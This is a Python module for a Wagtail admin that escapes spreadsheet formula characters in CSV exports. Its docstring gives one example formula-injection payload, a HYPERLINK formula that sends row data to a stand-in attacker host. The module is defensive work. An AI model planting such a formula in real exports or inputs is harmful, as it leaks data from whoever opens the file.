"""The export base for every admin list (Wagtail `list_export`): CSV without formulas.

A spreadsheet opens a CSV cell that starts with =, +, -, @, a tab or a carriage return as a
formula (`=HYPERLINK("http://evil.example/?d="&A2,"Klik")` sends the row away). Text that
visitors typed ends up in these exports, so each such cell gets a leading apostrophe (OWASP's
advice): shown as text, the rest unchanged. XLSX needs nothing: Wagtail already writes every
cell there as a string, never as a formula.

Use `ExportModelViewSet` / `ExportSnippetViewSet` (or the index views) for any list with
`list_export`; tests/core/test_exports.py fails for a viewset that does not.
"""

from wagtail.admin.views import generic
from wagtail.admin.viewsets.model import ModelViewSet
from wagtail.snippets.views import snippets

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The CSV cell for `value`: text that a spreadsheet would evaluate is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvExportMixin:
    """For a view with Wagtail's SpreadsheetExportMixin (every IndexView has it)."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow({
            field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        })


class ExportIndexView(SafeCsvExportMixin, generic.IndexView):
    pass


class ExportSnippetIndexView(SafeCsvExportMixin, snippets.IndexView):
    pass


class ExportModelViewSet(ModelViewSet):
    index_view_class = ExportIndexView


class ExportSnippetViewSet(snippets.SnippetViewSet):
    index_view_class = ExportSnippetIndexView
